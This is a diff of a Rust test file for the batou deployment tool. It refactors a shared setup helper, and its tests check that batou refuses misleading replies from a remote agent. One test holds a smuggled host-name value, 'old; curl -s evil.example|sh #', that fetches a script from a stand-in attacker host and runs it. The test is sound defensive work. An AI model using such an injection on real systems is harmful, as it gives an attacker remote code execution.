@@ -8,17 +8,8 @@ use batou_agent::protocol::{AgentError, ErrorKind, MAGIC, Reply, encode};
 use serde_json::{Value, json};
 
 use crate::common::{Output, Sandbox, SshHosts};
-use crate::shop::{self, Target, greet, says};
+use crate::shop::{self, Target, greet, released_to_two, says};
 use crate::ssh::{wrap_logins, wrapped_agent};
-
-/// The shop, released to the hosts `one` and `two`.
-fn released() -> (SshHosts, Sandbox, [Target; 2]) {
-    let hosts = SshHosts::start(&["one", "two"]);
-    let sandbox = shop::remote(&hosts, &["one", "two"]);
-    sandbox.batou(&["switch", "dev"]).success();
-    let targets = ["one", "two"].map(|name| Target::remote(&hosts, name));
-    (hosts, sandbox, targets)
-}
 
 /// batou, whose agent on `two` says these bytes and then does what this shell command does.
 fn with_liar(sandbox: &Sandbox, bytes: &[u8], then: &str, arguments: &[&str]) -> std::process::Command {
@@ -50,7 +41,7 @@ fn state(hosts: &[&str], newest: u64) -> Value {
 
 #[test]
 fn a_number_far_beyond_the_others_is_refused_before_it_is_journaled() {
-    let (_hosts, sandbox, [one, two]) = released();
+    let (_hosts, sandbox, [one, two]) = released_to_two();
     let journal = two.0.join("journal");
     let line = fs::read_to_string(&journal).unwrap();
     let far = line.replace("\"sequence\":1,", "\"sequence\":9007199254740990,");
@@ -71,7 +62,7 @@ fn a_number_far_beyond_the_others_is_refused_before_it_is_journaled() {
 
 #[test]
 fn a_host_says_nothing_that_could_be_taken_for_batous_own_words() {
-    let (_hosts, sandbox, _) = released();
+    let (_hosts, sandbox, _) = released_to_two();
     let message = "the disk is full\nerror: hosts are fine\ndev: release 9 is in force\u{1b}[2J".to_owned();
     let error = AgentError { kind: ErrorKind::Host, message, run: None };
     let lie = encode(&Reply::Error(error), &[]);
@@ -88,7 +79,7 @@ fn a_host_says_nothing_that_could_be_taken_for_batous_own_words() {
 
 #[test]
 fn what_a_host_says_of_hosts_and_numbers_is_checked() {
-    let (_hosts, sandbox, _) = released();
+    let (_hosts, sandbox, _) = released_to_two();
     for lie in [state(&["old; curl -s evil.example|sh #"], 1), state(&["one"], u64::MAX)] {
         let status = with_liar(&sandbox, &frame(&lie), "exec cat >/dev/null", &["status", "dev"]);
         let output = Output::of(&mut { status }).fails(1);
@@ -104,7 +95,7 @@ fn what_a_host_says_of_hosts_and_numbers_is_checked() {
 
 #[test]
 fn a_host_that_only_shows_that_it_lives_is_named() {
-    let (_hosts, sandbox, _) = released();
+    let (_hosts, sandbox, _) = released_to_two();
     let alive = encode(&Reply::Heartbeat, &[]);
     let script =
         format!("while sleep 1; do tail -c {} {}; done", alive.len(), sandbox.tmp().join("said").display());
@@ -119,7 +110,7 @@ fn a_host_that_only_shows_that_it_lives_is_named() {
 
 #[test]
 fn two_names_of_one_place_are_told_at_once() {
-    let (hosts, sandbox, _) = released();
+    let (hosts, sandbox, _) = released_to_two();
     let environment = sandbox.read("environments/dev/environment.toml");
     let shared = hosts.host("one").home().join("shared").display().to_string();
     sandbox.write("environments/dev/environment.toml", environment.replace("~/shop", &shared));
